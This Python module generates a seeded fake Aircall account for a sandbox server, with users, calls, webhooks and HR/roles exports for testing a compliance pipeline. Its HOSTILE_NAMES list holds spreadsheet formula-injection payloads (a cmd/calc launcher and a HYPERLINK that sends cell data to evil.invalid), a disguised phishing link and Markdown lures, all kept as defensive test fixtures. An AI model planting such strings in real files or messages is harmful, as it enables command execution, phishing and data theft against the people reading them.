"""A deterministic, seeded Aircall account for the sandbox server.

Users, teams and numbers are few, so they are built once as the JSON dicts the API returns. Calls
can number in the tens of thousands, so they are kept as parallel `array` columns sorted by
`started_at` (a `(from, to]` window is two bisects) and rendered to dicts only when a page asks for
them. Field sets and formats follow Aircall's API reference (https://developer.aircall.io/api-references/)
and the payloads public connectors recorded from the live API (Airbyte's `source-aircall` expected
records, Estuary's `source-aircall-native`), quirks included:
ISO `created_at` with and without milliseconds, display-formatted phone numbers, `"anonymous"`
callers, 64-bit call ids, UNIX-second comment timestamps, an unknown extra field on some objects.
Webhooks carry what the live list returns, secrets included: a plain-text shared `token` and
destination URLs with credentials in their path, query or userinfo.

The account also carries the compliance situations the demo should find (a shared mailbox, a user
in no team, an empty team, a number with no users, dormant users, a leaver still present, a user
absent from the HR roster), and the two files an owner would supply out of band: the roles export
(the API has no role field) and the HR/IdP roster.
"""

from __future__ import annotations

import hashlib
import random
import re
import uuid
from array import array
from bisect import bisect_left, bisect_right
from collections.abc import Iterator
from datetime import UTC, date, datetime, time, timedelta
from typing import Any

# Direct links in real responses point at the production API root, whatever host served them;
# clients must not follow them, so the sandbox keeps the real root rather than its own URL.
DIRECT_LINK_ROOT = "https://api.aircall.io"

# Unknown fields the real API may add at any time. The call one looks like personal data on
# purpose: the pipeline must drop unknown call fields, not store them.
USER_EXTRA_FIELD = "presence_device"
CALL_EXTRA_FIELD = "caller_location_hint"
WEBHOOK_EXTRA_FIELD = "last_delivery_status"
EXTRA_FIELDS = frozenset({USER_EXTRA_FIELD, CALL_EXTRA_FIELD, WEBHOOK_EXTRA_FIELD})

# Webhooks: where the account sends call and user data (AC-11). Each destination is
# (scheme, host, path and query, active, events); "{secret}" is a credential embedded in the URL the
# way real integrations embed theirs, "{domain}" the company's own domain. The first six carry the
# situations AC-11 must find; further webhooks (`webhooks=N`) are more approved automation hooks.
# An empty events tuple subscribes to every event.
WEBHOOK_DESTINATIONS: tuple[tuple[str, str, str, bool, tuple[str, ...]], ...] = (
    # Zapier-style "catch hook": the path itself is the bearer secret.
    ("https", "hooks.zapier.example", "/hooks/catch/{n}/{secret}/", True, ("call.ended", "call.answered")),
    # A CRM that takes its key in the query string, subscribed to all events.
    ("https", "api.crm-partner.example", "/aircall/events?api_key={secret}&v=2", True, ()),
    # An on-premise bridge still on plain http: call data crosses the network unencrypted.
    ("http", "pbx-bridge.{domain}", "/aircall/webhook?token={secret}", True, ("call.created", "call.ended")),
    # A developer's request inspector left switched on: a third party nobody approved.
    ("https", "requestbin.example", "/r/{secret}", True, ("user.created", "user.deleted", "call.ended")),
    # A Slack incoming webhook that kept failing, so Aircall deactivated it; all events.
    ("https", "hooks.slack.example", "/services/T0SANDBOX/B0SANDBOX/{secret}", False, ()),
    # A warehouse loader with HTTP Basic credentials in the URL, and a port.
    ("https", "aircall:{secret}@ingest.warehouse.example:8443", "/v1/aircall", True,
     ("call.ended", "user.created", "user.deleted", "number.created")),
)
# Approved by the sandbox account's owner (see `approved_webhook_domains`); the inspector is not.
APPROVED_WEBHOOK_DOMAINS = ("zapier.example", "crm-partner.example", "slack.example", "warehouse.example")
MORE_WEBHOOK_EVENTS = (("call.tagged",), ("call.commented", "call.archived"), ("user.opened", "user.closed"))
MAX_WEBHOOKS = 100  # Aircall's own limit per company
WEBHOOK_TOKEN_PREFIX = "whsec-sandbox-"  # noqa: S105 - a fake secret, distinctive so tests can find any leak
URL_SECRET_PREFIX = "urlsec-sandbox-"  # noqa: S105 - likewise, for the credentials inside webhook URLs

# Names anyone allowed to rename a user, team or number can type, aimed at the people who read the
# evidence: spreadsheet formulas (CSV injection), a Slack channel ping with a disguised link, and
# Markdown links and images. `hostile_names=True` gives them to users, teams and numbers; the
# first one always goes to the empty team and the unassigned number, which the checks report.
HOSTILE_NAMES = (
    "<!channel> key expired, sign in again at <https://evil.invalid/login|app.aircall.io>",
    '=HYPERLINK("https://evil.invalid/?q="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "[x](https://evil.invalid)",
    "![i](https://evil.invalid/i.png)",
    "\t=1+2",
)

MISSED_CALL_REASONS = (
    "out_of_opening_hours",
    "short_abandoned",
    "abandoned_in_ivr",
    "abandoned_in_classic",
    "no_available_agent",
    "agents_did_not_answer",
)

FIRST_NAMES = (
    "Alice", "Bruno", "Chloé", "David", "Emma", "Farid", "Grace", "Hugo", "Inès", "Jonas",
    "Karim", "Léa", "Marc", "Nina", "Oscar", "Paula", "Quentin", "Rosa", "Samir", "Tara",
    "Ugo", "Vera", "William", "Xenia", "Yann", "Zoé", "Amir", "Berta", "Colin", "Diane",
)
LAST_NAMES = (
    "Martin", "Bernard", "Dubois", "Thomas", "Robert", "Richard", "Petit", "Durand", "Leroy",
    "Moreau", "Simon", "Laurent", "Lefebvre", "Michel", "Garcia", "Smith", "Johnson", "Brown",
    "Miller", "Davis", "Wilson", "Taylor", "Clark", "Lewis", "Walker", "Hall", "Young", "King",
)
TEAM_NAMES = ("Sales", "Support", "Customer Success", "Billing", "Onboarding", "Partners", "Renewals", "VIP")
TAG_NAMES = ("Lead", "Complaint", "Callback", "Billing question")
COMMENT_TEXTS = (
    "Customer asked for a callback tomorrow morning.",
    "Invoice dispute, forwarded to billing.",
    "Wants a demo of the premium plan.",
    "Left a voicemail, will try again.",
    "Angry about the delivery delay, offered a discount.",
)
TIME_ZONES = ("Europe/Paris", "Europe/London", "America/New_York", "Etc/UTC")
LANGUAGES = ("en-US", "fr-FR", "en-GB", "de-DE")
SUBSTATUSES = ("always_opened", "always_opened", "always_opened", "always_closed", "Out for lunch")
NUMBER_MESSAGE_KINDS = (
    "welcome", "waiting", "ivr", "voicemail", "closed", "callback_later",
    "unanswered_call", "after_hours", "ringing_tone",
)

# Display formats the API returns, e.g. "+33 6 12 34 56 78" and "+1 617-610-5413", each built from
# a 10-digit national number (FR uses its first 9 digits).
def _fr(n: str) -> str:
    return f"+33 {n[0]} {n[1:3]} {n[3:5]} {n[5:7]} {n[7:9]}"


def _us(n: str) -> str:
    return f"+1 {n[0:3]}-{n[3:6]}-{n[6:10]}"


def _gb(n: str) -> str:
    return f"+44 {n[0:4]} {n[4:10]}"


def _de(n: str) -> str:
    return f"+49 {n[0:3]} {n[3:10]}"


COUNTRIES = (("FR", _fr), ("US", _us), ("GB", _gb), ("DE", _de))
ANONYMOUS = -1

# Bits of the per-call `flags` column.
INBOUND, ANSWERED, RECORDING, VOICEMAIL, ARCHIVED, EXTRA, OUT_OF_BUNDLE = (1 << k for k in range(7))

# The order in which compliance situations are given to users, counted from the last user
# backwards; the first two users are always ordinary people (the declared admins).
QUIRKS = ("generic_mailbox", "empty_name", "teamless", "dormant", "dormant", "dormant", "terminated", "unrostered")

CALL_ID_BASE = 5_000_000_000  # real call ids exceed 2**32: clients must use 64-bit integers


def _iso(moment: datetime, *, millis: bool) -> str:
    text = moment.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%S")
    return f"{text}.000Z" if millis else f"{text}Z"


def _day_start(day: date) -> int:
    return int(datetime.combine(day, time(0), tzinfo=UTC).timestamp())


def _slug(text: str) -> str:
    return re.sub(r"[^a-z0-9]+", "-", text.lower()).strip("-") or "company"


class SandboxAccount:
    """One company's Aircall data, fully determined by its parameters.

    `calls` is the total number of calls; `busy_day_calls` of them are put on `busy_day` on top of
    that day's ordinary share, the rest are spread over the `days` full UTC days before `anchor`.
    `hostile_names` renames users, teams and numbers with HOSTILE_NAMES (nothing else changes:
    the same seed gives the same account otherwise).
    """

    def __init__(
        self,
        *,
        seed: int = 7,
        users: int = 25,
        teams: int = 4,
        numbers: int = 6,
        calls: int = 2000,
        days: int = 30,
        anchor: date | None = None,
        busy_day: date | None = None,
        busy_day_calls: int = 0,
        company_name: str = "Northwind Trading",
        hostile_names: bool = False,
        webhooks: int = len(WEBHOOK_DESTINATIONS),
    ) -> None:
        if users < 1 or teams < 0 or numbers < 1 or calls < 0 or days < 1:
            raise ValueError("need users >= 1, numbers >= 1, teams >= 0, calls >= 0, days >= 1")
        if not 0 <= webhooks <= MAX_WEBHOOKS:
            raise ValueError(f"webhooks={webhooks} must be between 0 and {MAX_WEBHOOKS} (Aircall's limit per company)")
        if not 0 <= busy_day_calls <= calls:
            raise ValueError(f"busy_day_calls={busy_day_calls} must be between 0 and calls={calls}")
        self.seed = seed
        self.anchor = anchor or datetime.now(UTC).date()
        self.days = days
        self.first_day = self.anchor - timedelta(days=days)
        self.busy_day = busy_day or self.anchor - timedelta(days=1)
        if not self.first_day <= self.busy_day < self.anchor:
            raise ValueError(f"busy_day {self.busy_day} is outside the history {self.first_day} .. {self.anchor}")
        self.busy_day_calls = busy_day_calls
        self.company_name = company_name
        self.hostile_names = hostile_names
        self.domain = f"{_slug(company_name)}.example"
        self._rng = random.Random(seed)
        self._quirk_of: dict[int, str] = {}
        self._build_users(users)
        self._build_numbers(numbers)
        self._build_teams(teams)
        self._build_calls(calls)
        del self._rng  # generation is over; nothing else may draw from it
        self._build_webhooks(webhooks)

    # ----------------------------------------------------------------- people, teams, numbers

    def _build_users(self, count: int) -> None:
        rng = self._rng
        hostile_names = self.hostile_names
        for offset, quirk in enumerate(QUIRKS):
            index = count - 1 - offset
            if index < 2:
                break
            self._quirk_of[index] = quirk
        names = [(first, last) for last in LAST_NAMES for first in FIRST_NAMES]
        rng.shuffle(names)
        anchor_ts = _day_start(self.anchor)
        self.users: list[dict[str, Any]] = []
        self.real_names: list[str] = []  # what HR knows, even when the Aircall name is empty
        self._user_created: list[int] = []
        # Ids and creation dates grow together, as on the real API where order=asc means oldest first.
        created_times = sorted(anchor_ts - rng.randint(self.days + 5, 900) * 86400 + rng.randint(0, 86399)
                               for _ in range(count))
        user_id = 1_200_000
        for index, created in enumerate(created_times):
            user_id += rng.randint(1, 400)
            first, last = names[index % len(names)]
            name = f"{first} {last}" if index < len(names) else f"{first} {last} {index // len(names)}"
            email = f"{_ascii(first)}.{_ascii(last)}{'' if index < len(names) else index // len(names)}@{self.domain}"
            quirk = self._quirk_of.get(index)
            if quirk == "generic_mailbox":
                name, email = "Support", f"support@{self.domain}"
            elif hostile_names and index >= 2:  # the first two stay the (ordinary) declared admins
                name = HOSTILE_NAMES[(index - 2) % len(HOSTILE_NAMES)]
            self.real_names.append(name)
            if quirk == "empty_name":
                name = ""  # invited users who never set a name come back with ""
            self._user_created.append(created)
            status = rng.choice(("available", "available", "custom", "unavailable"))
            user: dict[str, Any] = {
                "id": user_id,
                "direct_link": f"{DIRECT_LINK_ROOT}/v1/users/{user_id}",
                "name": name,
                "email": email,
                # Both spellings occur in live data for the same kind of field.
                "created_at": _iso(datetime.fromtimestamp(created, UTC), millis=index % 3 == 0),
                "available": status == "available",
                "availability_status": status,
                "substatus": rng.choice(SUBSTATUSES),
                "time_zone": rng.choice(TIME_ZONES),
                "language": rng.choice(LANGUAGES),
                "wrap_up_time": rng.choice((0, 0, 15, 30, 60)),
                "state": "always_opened",
                "extension": f"{index + 1:03d}",
                "default_number_id": None,  # set once numbers exist
            }
            if index % 4 == 1:
                user[USER_EXTRA_FIELD] = rng.choice(("desktop_app", "mobile_app", "web"))
            self.users.append(user)
        self._user_index = {user["id"]: index for index, user in enumerate(self.users)}
        self._user_by_email = {user["email"].lower(): index for index, user in enumerate(self.users)}
        self._abridged_users = [_abridged_user(user) for user in self.users]

    def _build_numbers(self, count: int) -> None:
        rng = self._rng
        anchor_ts = _day_start(self.anchor)
        # The last number is the unassigned one whenever there is more than one.
        assignable = count - 1 if count > 1 else count
        self._number_users: list[list[int]] = [[] for _ in range(count)]
        for user_index in range(len(self.users)):
            self._number_users[user_index % assignable].append(user_index)
            if rng.random() < 0.25:
                extra = rng.randrange(assignable)
                if user_index not in self._number_users[extra]:
                    self._number_users[extra].append(user_index)
        self.numbers: list[dict[str, Any]] = []
        created_times = sorted(anchor_ts - rng.randint(400, 1500) * 86400 + rng.randint(0, 86399)
                               for _ in range(count))
        number_id = 900_000
        for index, created in enumerate(created_times):
            number_id += rng.randint(1, 50)
            country, formatter = COUNTRIES[index % 3]
            status = rng.choice(("open", "open", "custom", "closed"))
            label = TEAM_NAMES[index % len(TEAM_NAMES)]
            name = f"{label} line" if index + 1 < count or count == 1 else "Old marketing line"
            if self.hostile_names:
                name = _hostile_name(index, count)
            self.numbers.append({
                "id": number_id,
                "direct_link": f"{DIRECT_LINK_ROOT}/v1/numbers/{number_id}",
                "name": name,
                "digits": formatter(str(rng.randrange(6 * 10**9, 8 * 10**9))),
                "country": country,
                "time_zone": ("Europe/Paris", "America/New_York", "Europe/London")[index % 3],
                "open": status != "closed",
                "availability_status": status,
                "is_ivr": index % 2 == 0,
                "live_recording_activated": index % 3 != 2,
                "priority": rng.choice((None, 0, 1)),
                "messages": {
                    kind: f"https://aircall-production.s3.amazonaws.com/numbers/{number_id}/{kind}.mp3"
                    for kind in NUMBER_MESSAGE_KINDS
                },
                "created_at": _iso(datetime.fromtimestamp(created, UTC), millis=False),
            })
        for number_index, members in enumerate(self._number_users):
            for user_index in members:
                if self.users[user_index]["default_number_id"] is None:
                    self.users[user_index]["default_number_id"] = self.numbers[number_index]["id"]
        self._number_index = {number["id"]: index for index, number in enumerate(self.numbers)}
        self._number_created = [_parse_iso(number["created_at"]) for number in self.numbers]
        self._user_number = [
            self._number_index.get(user["default_number_id"], 0) for user in self.users
        ]

    def _build_teams(self, count: int) -> None:
        rng = self._rng
        anchor_ts = _day_start(self.anchor)
        # The last team stays empty whenever there are at least two.
        fillable = count - 1 if count > 1 else count
        members: list[list[int]] = [[] for _ in range(count)]
        if fillable:
            for user_index in range(len(self.users)):
                if self._quirk_of.get(user_index) == "teamless":
                    continue
                members[user_index % fillable].append(user_index)
                if rng.random() < 0.2:
                    second = rng.randrange(fillable)
                    if user_index not in members[second]:
                        members[second].append(user_index)
        self._team_members = members
        self.teams: list[dict[str, Any]] = []
        created_times = sorted(anchor_ts - rng.randint(100, 1000) * 86400 + rng.randint(0, 86399)
                               for _ in range(count))
        team_id = 40_000
        for index, created in enumerate(created_times):
            team_id += rng.randint(1, 30)
            name = TEAM_NAMES[index] if index < len(TEAM_NAMES) else f"Team {index + 1}"
            if self.hostile_names:
                name = _hostile_name(index, count)
            self.teams.append({
                "id": team_id,
                "name": name,
                "direct_link": f"{DIRECT_LINK_ROOT}/v1/teams/{team_id}",
                "created_at": _iso(datetime.fromtimestamp(created, UTC), millis=True),
            })
        self._team_index = {team["id"]: index for index, team in enumerate(self.teams)}
        teams_of_user: list[set[int]] = [set() for _ in self.users]
        for team_index, team_members in enumerate(members):
            for user_index in team_members:
                teams_of_user[user_index].add(team_index)
        # Inbound calls carry the teams that the called number distributes to.
        self._number_teams: list[list[dict[str, Any]]] = []
        for number_users in self._number_users:
            team_indexes = sorted({t for user_index in number_users for t in teams_of_user[user_index]})
            self._number_teams.append([dict(self.teams[t]) for t in team_indexes])

    # ------------------------------------------------------------------------------- calls

    def _build_calls(self, count: int) -> None:
        rng = self._rng
        start, end = _day_start(self.first_day), _day_start(self.anchor)
        busy_start = _day_start(self.busy_day)
        ordinary = count - self.busy_day_calls
        started = [rng.randrange(start, end) for _ in range(ordinary)]
        started += [rng.randrange(busy_start, busy_start + 86400) for _ in range(self.busy_day_calls)]
        started.sort()
        self._started = array("q", started)
        del started
        self._ids = array("q")
        self._ring = array("H")
        self._talk = array("I")
        self._voicemail = array("H")
        self._user = array("h")
        self._number = array("h")
        self._country = array("b")
        self._national = array("q")
        self._missed_reason = array("b")
        self._flags = array("H")
        self._comments = array("B")
        self._tags = array("B")
        self._assigned = array("h")
        self._transferred_to = array("h")
        callers = [i for i in range(len(self.users)) if self._quirk_of.get(i) != "dormant"] or [0]
        number_count = len(self.numbers)
        random_ = rng.random
        randrange = rng.randrange
        call_id = CALL_ID_BASE
        for _ in range(count):
            call_id += 1 + randrange(7)
            user = callers[randrange(len(callers))]
            inbound = random_() < 0.6
            answered = random_() < (0.75 if inbound else 0.7)
            flags = INBOUND if inbound else 0
            missed_reason = -1
            voicemail = 0
            if answered:
                flags |= ANSWERED
                talk = 20 + randrange(900)
            else:
                talk = 0
                if inbound:
                    missed_reason = randrange(len(MISSED_CALL_REASONS))
                    if random_() < 0.4:
                        flags |= VOICEMAIL
                        voicemail = 5 + randrange(90)
            number = self._user_number[user] if answered or not inbound else randrange(number_count)
            if answered and self.numbers[number]["live_recording_activated"] and random_() < 0.95:
                flags |= RECORDING
            if random_() < 0.05:
                flags |= ARCHIVED
            if random_() < 0.1:
                flags |= EXTRA
            if not inbound and random_() < 0.15:
                flags |= OUT_OF_BUNDLE
            # Dormant users must not appear anywhere in a call, or they would not be dormant.
            transferred_to = -1
            if inbound and answered and random_() < 0.05:
                transferred_to = callers[randrange(len(callers))]
            assigned = callers[randrange(len(callers))] if inbound and not answered and random_() < 0.2 else -1
            self._ids.append(call_id)
            self._ring.append(3 + randrange(40))
            self._talk.append(talk)
            self._voicemail.append(voicemail)
            self._user.append(user if answered or not inbound else -1)
            self._number.append(number)
            self._country.append(ANONYMOUS if inbound and random_() < 0.03 else randrange(len(COUNTRIES)))
            self._national.append(randrange(6 * 10**9, 8 * 10**9))
            self._missed_reason.append(missed_reason)
            self._flags.append(flags)
            self._comments.append(randrange(1, 4) if random_() < 0.1 else 0)
            self._tags.append(randrange(1, 16) if random_() < 0.2 else 0)
            self._assigned.append(assigned)
            self._transferred_to.append(transferred_to)

    @property
    def call_count(self) -> int:
        return len(self._ids)

    def call_range(self, from_ts: int | None, to_ts: int | None) -> range:
        """Indexes of the calls with `from_ts < started_at <= to_ts` (the live API's half-open window)."""
        low = 0 if from_ts is None else bisect_right(self._started, from_ts)
        high = len(self._started) if to_ts is None else bisect_right(self._started, to_ts)
        return range(low, max(low, high))

    def call_index(self, call_id: int) -> int | None:
        index = bisect_left(self._ids, call_id)
        return index if index < len(self._ids) and self._ids[index] == call_id else None

    def call_started_at(self, index: int) -> int:
        return self._started[index]

    def iter_calls(self, *, include_unknown: bool = True) -> Iterator[dict[str, Any]]:
        for index in range(self.call_count):
            yield self.call(index, include_unknown=include_unknown)

    def call(self, index: int, *, include_unknown: bool = True, short_urls: bool = False) -> dict[str, Any]:
        """The call at `index` as `GET /v1/calls` returns it."""
        call_id = self._ids[index]
        flags = self._flags[index]
        inbound = bool(flags & INBOUND)
        started = self._started[index]
        ring = self._ring[index]
        answered_at = started + ring if flags & ANSWERED else None
        ended = started + ring + self._talk[index] + self._voicemail[index]
        user_index = self._user[index]
        user = self._abridged_users[user_index] if user_index >= 0 else None
        number_index = self._number[index]
        transferred_to = self._transferred_to[index]
        assigned = self._assigned[index]
        country = self._country[index]
        if country == ANONYMOUS:
            raw_digits, country_a2 = "anonymous", None
        else:
            country_a2, formatter = COUNTRIES[country]
            raw_digits = formatter(str(self._national[index]))
        duration = ended - started
        call: dict[str, Any] = {
            "id": call_id,
            "sid": "CA" + hashlib.blake2b(f"{self.seed}:{call_id}".encode(), digest_size=16).hexdigest(),
            "direct_link": f"{DIRECT_LINK_ROOT}/v1/calls/{call_id}",
            "direction": "inbound" if inbound else "outbound",
            "status": "done",
            "missed_call_reason": (
                MISSED_CALL_REASONS[self._missed_reason[index]] if self._missed_reason[index] >= 0 else None
            ),
            "started_at": started,
            "answered_at": answered_at,
            "ended_at": ended,
            "duration": duration,
            "archived": bool(flags & ARCHIVED),
            "cost": f"{(duration // 60) * 1.5:.1f}" if not inbound else "0.0",
            "voicemail": self._signed_url(call_id, "voicemail") if flags & VOICEMAIL else None,
            "recording": self._signed_url(call_id, "recording") if flags & RECORDING else None,
            "recording_short_url": None,
            "voicemail_short_url": None,
            "asset": f"https://assets.aircall.io/calls/{call_id}/recording" if flags & RECORDING else None,
            "raw_digits": raw_digits,
            "user": user,
            "contact": None,  # only filled with fetch_contact=true, which the sandbox does not model
            "assigned_to": self._abridged_users[assigned] if assigned >= 0 else None,
            "transferred_by": user if transferred_to >= 0 else None,
            "transferred_to": self._abridged_users[transferred_to] if transferred_to >= 0 else None,
            "comments": self._call_comments(index, ended),
            "number": self._call_number(number_index),
            "tags": self._call_tags(index, started),
            "country_code_a2": country_a2,
            "pricing_type": "out_of_bundle" if flags & OUT_OF_BUNDLE else "in_bundle",
        }
        # Inbound calls carry the teams the number rings; outbound calls an empty list, as seen live
        # (Estuary's probe of an outbound call: https://github.com/estuary/connectors,
        # source-aircall-native/bruno/Calls/bare.yml).
        call["teams"] = self._number_teams[number_index] if inbound else []
        if short_urls:
            if call["recording"]:
                call["recording_short_url"] = f"https://short.aircall.io/r/{call['sid'][2:14]}"
            if call["voicemail"]:
                call["voicemail_short_url"] = f"https://short.aircall.io/v/{call['sid'][2:14]}"
        if include_unknown and flags & EXTRA:
            call[CALL_EXTRA_FIELD] = ("Lyon, FR", "Boston, US", "Leeds, GB", "Berlin, DE")[call_id % 4]
        return call

    def _signed_url(self, call_id: int, kind: str) -> str:
        # Shaped like the short-lived S3 links the API returns: a bearer secret the pipeline must drop.
        signature = hashlib.sha256(f"{self.seed}:{call_id}:{kind}".encode()).hexdigest()
        stamp = self.anchor.strftime("%Y%m%d")
        return (
            f"https://aircall-recordings-prod.s3.eu-west-1.amazonaws.com/calls/{call_id}/{kind}.mp3"
            f"?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=ASIAXSANDBOX{signature[:8].upper()}"
            f"%2F{stamp}%2Feu-west-1%2Fs3%2Faws4_request&X-Amz-Date={stamp}T000000Z&X-Amz-Expires=3600"
            f"&X-Amz-SignedHeaders=host&X-Amz-Signature={signature}"
        )

    def _call_comments(self, index: int, ended: int) -> list[dict[str, Any]]:
        comments = []
        call_id = self._ids[index]
        for k in range(self._comments[index]):
            author = self._user[index]
            comments.append({
                "id": call_id % 10_000_000 * 10 + k,
                "content": COMMENT_TEXTS[(call_id + k) % len(COMMENT_TEXTS)],
                # Comments posted through the API have no author.
                "posted_by": self._abridged_users[author] if author >= 0 and k == 0 else None,
                "posted_at": ended + 60 * (k + 1),  # UNIX seconds, though documented as a string
            })
        return comments

    def _call_tags(self, index: int, started: int) -> list[dict[str, Any]]:
        bits = self._tags[index]
        if not bits:
            return []
        tagger = self._user[index]
        return [
            {
                "id": 7_000 + k,
                "name": TAG_NAMES[k],
                "created_at": _iso(datetime.fromtimestamp(started + 600, UTC), millis=True),
                "tagged_by": self._abridged_users[tagger] if tagger >= 0 else None,
            }
            for k in range(len(TAG_NAMES))
            if bits & (1 << k)
        ]

    def _call_number(self, index: int) -> dict[str, Any]:
        return {**self.numbers[index], "flow_editor_enabled": True}

    # ----------------------------------------------------------------------------- webhooks

    def _build_webhooks(self, count: int) -> None:
        # Their own generator, so that adding webhooks never changes the users, numbers or calls
        # an existing seed gives.
        rng = random.Random(f"webhooks:{self.seed}")
        anchor_ts = _day_start(self.anchor)
        created_times = sorted(anchor_ts - rng.randint(2, 700) * 86400 + rng.randint(0, 86399) for _ in range(count))
        self.webhooks: list[dict[str, Any]] = []
        self._url_secrets: list[str] = []
        webhook_int_id = 3_100
        for index, created in enumerate(created_times):
            if index < len(WEBHOOK_DESTINATIONS):
                scheme, host, path, active, events = WEBHOOK_DESTINATIONS[index]
            else:
                scheme, host, path, active, _ = WEBHOOK_DESTINATIONS[0]
                events = MORE_WEBHOOK_EVENTS[index % len(MORE_WEBHOOK_EVENTS)]
            secret = URL_SECRET_PREFIX + f"{rng.getrandbits(64):016x}"
            self._url_secrets.append(secret)
            fill = {"secret": secret, "domain": self.domain, "n": 100_000 + index}
            webhook_int_id += rng.randint(1, 40)
            webhook_id = str(uuid.UUID(int=rng.getrandbits(128), version=4))
            webhook: dict[str, Any] = {
                "id": webhook_int_id,  # deprecated by Aircall in favour of webhook_id
                "webhook_id": webhook_id,
                "direct_link": f"{DIRECT_LINK_ROOT}/v1/webhooks/{webhook_id}",
                "url": f"{scheme}://{host.format(**fill)}{path.format(**fill)}",
                "active": active,
                "events": list(events),
                # The live API returns the shared secret in plain text; receivers compare it to authenticate.
                "token": WEBHOOK_TOKEN_PREFIX + f"{rng.getrandbits(128):032x}",
                "created_at": _iso(datetime.fromtimestamp(created, UTC), millis=index % 2 == 0),
            }
            if index == 1:
                webhook[WEBHOOK_EXTRA_FIELD] = "failing"
            self.webhooks.append(webhook)

    def webhook_secrets(self) -> list[str]:
        """Every secret the webhooks carry (tokens and the credentials inside their URLs): none may
        ever reach the evidence, a log or an alert."""
        return [w["token"] for w in self.webhooks] + list(self._url_secrets)

    def approved_webhook_domains(self) -> list[str]:
        """The destinations an owner would approve: the automation, CRM, chat and warehouse vendors,
        and the company's own domain (whose bridge still uses http). The request inspector is not."""
        return [*APPROVED_WEBHOOK_DOMAINS, self.domain]

    # ---------------------------------------------------------------------- single objects

    def company(self) -> dict[str, Any]:
        return {"name": self.company_name, "users_count": len(self.users), "numbers_count": len(self.numbers)}

    def user(self, key: str) -> dict[str, Any] | None:
        """`GET /v2/users/:id` accepts an id or an email address."""
        index = self._user_index.get(int(key)) if key.isdigit() else self._user_by_email.get(key.lower())
        return None if index is None else self.users[index]

    def user_created_at(self, index: int) -> int:
        return self._user_created[index]

    def number_created_at(self, index: int) -> int:
        return self._number_created[index]

    def team_list_item(self, index: int) -> dict[str, Any]:
        members = [_team_member(self.users[u], detailed=True) for u in self._team_members[index]]
        return {**self.teams[index], "users": members}

    def team(self, team_id: int) -> dict[str, Any] | None:
        """`GET /v1/teams/:id`: its member rows are documented as thinner than the list's."""
        index = self._team_index.get(team_id)
        if index is None:
            return None
        members = [_team_member(self.users[u], detailed=False) for u in self._team_members[index]]
        return {**self.teams[index], "users": members}

    def number(self, number_id: int) -> dict[str, Any] | None:
        """`GET /v1/numbers/:id` is the only place a number's users are listed."""
        index = self._number_index.get(number_id)
        if index is None:
            return None
        users = [_abridged_user(self.users[u]) for u in self._number_users[index]]
        return {**self.numbers[index], "users": users}

    # ------------------------------------------------------------------ out-of-band files

    def users_with(self, quirk: str) -> list[dict[str, Any]]:
        """The users given a compliance situation (see QUIRKS), for tests and the demo."""
        return [self.users[i] for i, q in sorted(self._quirk_of.items()) if q == quirk]

    def roles_rows(self) -> list[dict[str, str]]:
        """What an owner exports from the Dashboard (the API has no role field): email -> role.

        Two real admins plus one declared admin who is no longer an Aircall user; one supervisor per
        non-empty team; everyone else an agent, except the user absent from the HR roster, who has no
        declared role either.
        """
        rows = [{"email": self.users[i]["email"], "role": "admin"} for i in range(min(2, len(self.users)))]
        rows.append({"email": f"it-admin@{self.domain}", "role": "admin"})
        supervisors = {next((u for u in members if u >= 2), -1) for members in self._team_members}
        for index in range(2, len(self.users)):
            if self._quirk_of.get(index) == "unrostered":
                continue
            role = "supervisor" if index in supervisors else "agent"
            rows.append({"email": self.users[index]["email"], "role": role})
        return rows

    def roster_rows(self) -> list[dict[str, str | None]]:
        """An HR/IdP export: every person, active or terminated.

        One person was terminated six days before the anchor and is still an Aircall user; one
        Aircall user is missing from it; two leavers were correctly removed from Aircall.
        """
        rows: list[dict[str, str | None]] = []
        anchor_noon = datetime.combine(self.anchor, time(17), tzinfo=UTC)
        for index, user in enumerate(self.users):
            quirk = self._quirk_of.get(index)
            if quirk == "unrostered":
                continue
            terminated = quirk == "terminated"
            rows.append({
                "email": user["email"],
                "name": self.real_names[index],
                "status": "terminated" if terminated else "active",
                "terminated_at": _iso(anchor_noon - timedelta(days=6), millis=False) if terminated else None,
            })
        for k, (first, last) in enumerate((("Olga", "Nowak"), ("Pierre", "Blanc"))):
            rows.append({
                "email": f"{first.lower()}.{last.lower()}@{self.domain}",
                "name": f"{first} {last}",
                "status": "terminated",
                "terminated_at": _iso(anchor_noon - timedelta(days=40 + 20 * k), millis=False),
            })
        return rows


def _hostile_name(index: int, count: int) -> str:
    """The last of `count` objects (the empty team, the unassigned number) gets the channel ping;
    the others cycle through the rest of HOSTILE_NAMES."""
    if index == count - 1:
        return HOSTILE_NAMES[0]
    return HOSTILE_NAMES[1 + index % (len(HOSTILE_NAMES) - 1)]


def _ascii(text: str) -> str:
    return text.lower().replace("é", "e").replace("è", "e").replace("ï", "i")


def _parse_iso(text: str) -> int:
    return int(datetime.fromisoformat(text.replace("Z", "+00:00")).timestamp())


def _abridged_user(user: dict[str, Any]) -> dict[str, Any]:
    """A user nested in a call or a number: no substatus, no wrap_up_time (as documented)."""
    keys = ("id", "direct_link", "name", "email", "available", "availability_status", "created_at",
            "time_zone", "language")
    return {key: user[key] for key in keys}


def _team_member(user: dict[str, Any], *, detailed: bool) -> dict[str, Any]:
    # Nested under teams, created_at always carries milliseconds, even when /v2/users omits them.
    created = user["created_at"] if user["created_at"].endswith(".000Z") else user["created_at"][:-1] + ".000Z"
    member = {
        "id": user["id"],
        "direct_link": user["direct_link"],
        "name": user["name"],
        "email": user["email"],
        "created_at": created,
        "time_zone": user["time_zone"],
        "language": user["language"],
        "wrap_up_time": user["wrap_up_time"],
    }
    if detailed:
        member["availability_status"] = user["availability_status"]
        member["default_number_id"] = user["default_number_id"]
    return member
